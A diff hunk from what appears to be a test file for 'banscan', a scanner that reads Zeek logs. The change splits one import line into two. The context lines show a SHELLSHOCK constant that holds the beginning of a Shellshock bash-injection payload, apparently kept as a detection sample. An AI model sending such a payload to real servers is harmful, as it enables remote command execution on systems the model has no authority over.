@@ -11,7 +11,8 @@ from sharedsamples import shared_sample
 
 from banscan.model import EvidenceClass, Observation, Problem
 from banscan.sources import ReadContext, detect
-from banscan.sources.zeek import SOURCE as ZEEK, dn_parts
+from banscan.sources.zeek import SOURCE as ZEEK
+from banscan.sources.zeek import dn_parts
 
 ROOT = Path(__file__).resolve().parents[2]
 SHELLSHOCK = ('() { _; } >_[$($())] { echo Content-Type: text/plain ; echo ; '
